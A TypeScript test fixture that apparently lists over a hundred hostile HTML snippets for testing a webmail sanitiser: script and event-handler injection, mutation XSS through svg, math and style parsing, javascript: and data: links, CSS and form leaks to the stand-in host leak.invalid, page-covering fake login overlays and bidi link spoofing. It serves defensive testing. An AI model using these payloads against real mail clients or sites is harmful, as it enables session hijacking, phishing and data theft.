/** HTML that has broken webmails: one entry an idea. Opened by the sanitiser's test and, in a real browser, by hostile.test.ts. */
export const ATTACKS: Readonly<Record<string, string>> = {
  "plain script": "<script>window.top.pwned=1;fetch('http://leak.invalid/')</script><p>after</p>",
  "script in odd case with a slash": "<ScRiPt/x>alert(1)</sCrIpT >",
  "script that is never closed": "<p>before</p><script>alert(1)",
  "nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "image handler": '<img src=x onerror="alert(1)">',
  "image handler with slashes": "<img/src=`x`/onerror=alert(1)>",
  "image handler over lines": "<img src=x\nonerror\n=\nalert(1)>",
  "attribute broken open": '<img alt="a" title="\'><img src=x onerror=alert(1)>">',
  "svg handler": "<svg onload=alert(1)>",
  "svg script": "<svg><script>alert(1)</script></svg>",
  "svg script by entities": "<svg><script>&#97;lert(1)</script></svg>",
  "svg animation of a link":
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
  "svg use":
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  "svg foreignObject": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
  "svg style mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "math link": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  "math mglyph mutation":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "math annotation mutation":
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  "form in table mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "title mutation": '<title><a href="</title><img src=x onerror=alert(1)>">',
  "textarea mutation": '<textarea><a href="</textarea><img src=x onerror=alert(1)>">',
  "xmp mutation": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  "noembed and noframes":
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"><noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  plaintext: "<plaintext><img src=x onerror=alert(1)>",
  template: "<template><img src=x onerror=alert(1)></template>",
  "select mutation": "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
  "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
  "comment with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
  "conditional comment": "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
  cdata: "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "processing instruction": "<?xml version='1.0'?><?php <img src=x onerror=alert(1)> ?>",
  "javascript link": '<a href="javascript:alert(1)">x</a>',
  "javascript link with a tab": '<a href="java&#9;script:alert(1)">x</a>',
  "javascript link with controls": '<a href="&#1;&#14; javascript:alert(1)">x</a>',
  "javascript link in capitals by entities": '<a href="&#74;&#x41;VASCRIPT&colon;alert(1)">x</a>',
  "javascript link with a fake web address": '<a href="javascript://https://example.org/%0aalert(1)">x</a>',
  "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
  "file and other schemes": '<a href="file:///etc/passwd">x</a><a href="ms-word:ofe|u|http://leak.invalid">y</a>',
  "relative link to the webmail": '<a href="/mail/f/1/act?action=delete">x</a><a href="//leak.invalid/">y</a>',
  "javascript picture":
    '<img src="javascript:alert(1)"><img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">',
  "svg picture as data": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "picture set":
    '<img srcset="http://leak.invalid/a 1x, http://leak.invalid/b 2x"><picture><source srcset="http://leak.invalid/c"><img src=x></picture>',
  iframe: '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  frameset: '<frameset><frame src="javascript:alert(1)"></frameset>',
  "object and embed":
    '<object data="javascript:alert(1)"><param name=x></object><embed src="javascript:alert(1)"><applet code=x></applet>',
  "audio and video":
    '<video poster="http://leak.invalid/p"><source onerror="alert(1)"></video><audio src="http://leak.invalid/a" onerror=alert(1) autoplay>',
  "meta refresh":
    '<meta http-equiv="refresh" content="0;url=http://leak.invalid/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "meta charset and policy":
    '<meta charset="utf-7"><meta http-equiv="Content-Security-Policy" content="script-src *">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  base: '<base href="http://leak.invalid/" target="_top"><a href="x">x</a>',
  "link elements":
    '<link rel="stylesheet" href="http://leak.invalid/x.css"><link rel="prefetch" href="http://leak.invalid/"><link rel="dns-prefetch" href="//leak.invalid">',
  form: '<form action="http://leak.invalid/" method="post"><input name="password" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">Log in</button></form>',
  isindex: '<isindex type=image src=1 onerror=alert(1) action="javascript:alert(1)">',
  "details handler": "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "marquee handler": "<marquee onstart=alert(1)>x</marquee>",
  "body handler": '<body onload="alert(1)" background="http://leak.invalid/b.png">x</body>',
  "table background":
    '<table background="http://leak.invalid/b.png"><td background="javascript:alert(1)">x</td></table>',
  "style expression": '<p style="width: expression(alert(1)); xss:expr/**/ession(alert(1))">x</p>',
  "style url": '<p style="background-image: url(javascript:alert(1)); background: url(http://leak.invalid/x)">x</p>',
  "style url by escapes":
    '<p style="background: \\75 rl(http://leak.invalid/x); background: u\\rl(http://leak.invalid/y)">x</p>',
  "style url split by a comment":
    '<p style="background: u/**/rl(http://leak.invalid/x); background: url(/**/http://leak.invalid/y)">x</p>',
  "style image-set":
    "<p style=\"background-image: image-set('http://leak.invalid/x' 1x); background: -webkit-image-set(url(http://leak.invalid) 1x)\">x</p>",
  "style with content and counters":
    '<p style="content: url(http://leak.invalid/x); list-style-image: url(http://leak.invalid/y); cursor: url(http://leak.invalid/z), auto">x</p>',
  "style binding": '<p style="-moz-binding: url(http://leak.invalid/x#y); behavior: url(http://leak.invalid/z)">x</p>',
  "style over the page":
    '<div style="position: fixed; inset: 0; z-index: 99999; background: white">Your session has ended. Password:</div>',
  "style over the page by escapes": '<div style="p\\6fsition: f\\69xed; top: 0">x</div>',
  "style custom properties": '<p style="--x: url(http://leak.invalid); background: var(--x)">x</p>',
  "style quote that does not end": '<p style="font-family: \'x; background: url(http://leak.invalid/)">x</p>',
  "style attribute broken open": "<p style=\"color: red\" onclick='alert(1)' style='x'>x</p>",
  "style sheet import": "<style>@import 'http://leak.invalid/x.css'; @import url(//leak.invalid);</style>",
  "style sheet font":
    "<style>@font-face { font-family: x; src: url(http://leak.invalid/f) } p { font-family: x }</style>",
  "style sheet that reads attributes":
    '<style>input[value^="a"] { background: url(http://leak.invalid/a) } a[href*=token] { color: red }</style>',
  "style sheet with the end tag inside": "<style>a{color:red}</sty</style>le><img src=x onerror=alert(1)>",
  "style sheet with html in a string": '<style>a::before{content:"</style><img src=x onerror=alert(1)>"}</style>',
  "style sheet that is never closed": "<p>x</p><style>a{color:red}<img src=x onerror=alert(1)>",
  "style sheet in comments":
    "<style><!-- a{position:fixed} --></style><style>/*</style><img src=x onerror=alert(1)>*/</style>",
  "style sheet with a hostile selector":
    "<style>a:is(b)~*,*{background:url(http://leak.invalid)} a{}}</style><script>alert(1)</script>{</style>",
  "style sheet keyframes":
    "<style>@keyframes x { from { background: url(http://leak.invalid) } } p { animation: x 1s }</style>",
  "clobbering names":
    '<a id="document" name="cookie" href="https://example.org/">x</a><form id="test"><input name="attributes"></form>',
  "null octets": "<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)><a href='java\0script:alert(1)'>x</a>",
  "overlong and broken utf-8":
    "\u00c0\u00bcscript\u00c0\u00bealert(1)\u00c0\u00bc/script\u00c0\u00be\ufffd<img src=x onerror=alert(1)\ufffd>",
  "entities without semicolons":
    "<img src=x onerror&equals;&#97lert(1)><a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>x</a>",
  "tag that never ends": "<p>x</p><img src=x onerror=alert(1) ",
  "end tag with attributes": "</p onclick=alert(1) style=x:expression(alert(1))>",
  "namespaced elements":
    '<html xmlns:xss><xss:script>alert(1)</xss:script><?import namespace="xss" implementation="http://leak.invalid/x.htc"><v:vmlframe xmlns:v="urn:schemas-microsoft-com:vml" src="http://leak.invalid"/>',
  "custom element and is": '<x-y onclick=alert(1)>a</x-y><p is="x-y" contenteditable onbeforeinput=alert(1)>b</p>',
  "popover and dialog":
    "<dialog open onclose=alert(1)>x</dialog><div popover id=p onbeforetoggle=alert(1)>y</div><button popovertarget=p>z</button>",
  "access key and tab order":
    '<a accesskey="x" tabindex="1" autofocus onfocus=alert(1) href="https://example.org">x</a>',
  "ping and download":
    '<a href="https://example.org/" ping="http://leak.invalid/" download="x.exe" target="_top" rel="opener">x</a>',
  "right-to-left override": '<a href="https://example.org/">\u202egro.knab//:sptth</a>',
  "svg set on a handler": "<svg><set attributeName=onmouseover to=alert(1)><rect width=99 height=99></svg>",
  "svg discard and timed elements":
    "<svg><discard onbegin=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "svg image and feImage":
    '<svg><image href="http://leak.invalid/i"/><filter id=f><feImage href="http://leak.invalid/f"/></filter><rect filter="url(#f)"/></svg>',
  "svg style import": "<svg><style>@import 'http://leak.invalid/s.css';</style></svg>",
  "svg handler and listener":
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler><listener event=load handler="data:,alert(1)"/></svg>',
  "svg title and desc mutation": '<svg><title><style><a id="</style><img src=x onerror=alert(1)>"></title></svg>',
  "svg in a caption":
    "<table><caption><svg><title><style><![CDATA[</title><img src=x onerror=alert(1)>]]></style></svg>",
  "svg style with a comment in it": "<svg><style>/*</style><img src=x onerror=alert(1)>*/</style></svg>",
  "svg annotation mutation":
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
  "math href and style": '<math href="javascript:alert(1)" style="background:url(http://leak.invalid/m)">x</math>',
  "math xhtml annotation":
    '<math><annotation-xml encoding="application/xhtml+xml"><script>alert(1)</script><img src=x onerror=alert(1)></annotation-xml></math>',
  "math nested forms":
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  "math text integration":
    '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  "math that closes a paragraph": "<math></p><style><!--</style><img src=x onerror=alert(1)>--></style></math>",
  "noscript in style": "<noscript><style></noscript><img src=x onerror=alert(1)>",
  "declarative shadow tree":
    "<div><template shadowrootmode=open><style>@import url(http://leak.invalid/d.css)</style><img src=x onerror=alert(1)></template></div>",
  "template in a select":
    "<select><template><img src=x onerror=alert(1)></template></select><img src=x onerror=alert(1)>",
  "script data states": "<script><!--<script></script><img src=x onerror=alert(1)>--></script>",
  "hundreds of elements deep": `${"<b>".repeat(390)}<svg><style><img src=x onerror=alert(1)></style>`,
  "elements out of their place": "<table><a href=javascript:alert(1)><tr><img src=x onerror=alert(1)><td></a></table>",
  "frames of new kinds":
    '<portal src="http://leak.invalid"></portal><fencedframe src="http://leak.invalid"></fencedframe><controlledframe src="javascript:alert(1)"></controlledframe>',
  "attribution and preloading":
    '<img src=x attributionsrc="http://leak.invalid/a"><a attributionsrc="http://leak.invalid/b" href="https://example.org/">x</a><link rel=preconnect href="http://leak.invalid"><link rel=modulepreload href="http://leak.invalid/m.js">',
  "speculation rules": '<script type="speculationrules">{"prerender":[{"urls":["http://leak.invalid/"]}]}</script>',
  "import map and module":
    '<script type=importmap>{"imports":{"a":"http://leak.invalid/a.js"}}</script><script type=module>import "a"</script>',
  "picture buttons and old sounds":
    '<input type=image src="http://leak.invalid/b" formaction="javascript:alert(1)"><bgsound src="http://leak.invalid/s"><embed src="http://leak.invalid/e">',
  "text track and poster":
    '<video controls autoplay><source src="http://leak.invalid/v"><track default src="http://leak.invalid/t"></video>',
  "form by attribute":
    '<form id=f action="http://leak.invalid/"></form><button form=f formtarget=_top>x</button><input form=f name=p>',
  "commands and invokers":
    "<button commandfor=d command=show-modal>x</button><dialog id=d oncommand=alert(1)>y</dialog>",
  "handlers of new events":
    "<p onscrollsnapchange=alert(1) onbeforematch=alert(1) oncontentvisibilityautostatechange=alert(1) hidden=until-found>x</p>",
  "translate and edit":
    "<div contenteditable onfocus=alert(1) autofocus>x</div><p is=x spellcheck=true virtualkeyboardpolicy=manual>y</p>",
  "style sheet nesting":
    "<style>p{color:red;&:hover{background:url(http://leak.invalid/n)} .a &{background:url(http://leak.invalid/o)}}</style><p class=a>x</p>",
  "style sheet at-rules of all kinds":
    "<style>@layer a{p{background:url(http://leak.invalid/1)}}@supports(color:red){p{background:url(http://leak.invalid/2)}}@container(width>1px){p{background:url(http://leak.invalid/3)}}@scope(p){a{background:url(http://leak.invalid/4)}}@property --x{syntax:'*';inherits:false;initial-value:url(http://leak.invalid/5)}@namespace url(http://leak.invalid/6);@starting-style{p{background:url(http://leak.invalid/7)}}</style><p>x</p>",
  "style sheet that asks":
    "<style>body:has(a[href*='secret']){background:url(http://leak.invalid/has)}a:not([x]){background:url(http://leak.invalid/not)}p:nth-child(1){background:url(http://leak.invalid/nth)}</style><p>x</p>",
  "style functions that fetch":
    "<p style=\"background:cross-fade(url(http://leak.invalid/a),url(http://leak.invalid/b));background:src('http://leak.invalid/c');background:-webkit-cross-fade(url(http://leak.invalid/d),none,50%);background:element(#x)\">x</p>",
  "style properties that fetch":
    '<p style="filter:url(http://leak.invalid/f#x);mask:url(http://leak.invalid/m);clip-path:url(http://leak.invalid/c);shape-outside:url(http://leak.invalid/s);border-image:url(http://leak.invalid/b);offset-path:url(http://leak.invalid/o);list-style:url(http://leak.invalid/l);cursor:url(http://leak.invalid/k),auto;-webkit-mask-image:url(http://leak.invalid/w)">x</p>',
  "style that closes what holds it":
    '<p style="color: red) ; background: url(http://leak.invalid/c); color: light-dark(red, url(http://leak.invalid/d))">x</p>',
  "style with a newline in a string": '<p style="font-family: \'a\nb; background: url(http://leak.invalid/n)">x</p>',
  "style sheet that hides what is ours":
    '<style>@layer guard{a::after{content:"https://bank.example/"!important}}a::after,a:hover::after{display:none!important}span{display:none!important;color:transparent!important}</style><a href="https://evil.example/">https://bank.com/</a>',
  "where a link leads, forged":
    '<a data-leads="https://bank.example/" href="https://evil.example/">x</a><a data-leads=\'"><img src=x onerror=alert(1)>\' href="https://evil.example/">y</a>',
  "picture addresses of our own":
    '<img src="/mail/pictures/x/y"><img src="http://127.0.0.1/mail/pictures/x/y"><img src="cid:../../logout">',
  "bidi controls everywhere":
    '<p dir="rtl">\u202e\u2066gro.elpmaxe\u2069\u202c</p><a href="https://example.org/\u202egpj.exe">\u2067photo\u202egpj.exe\u2069</a><bdo dir=rtl><b>x</b></bdo>',
  "characters that are none":
    "<p>\uffff\ufffe\u0000\u0001\u000b\u001b\ud800</p><a href='https://example.org/\ud800'>x</a>",
};
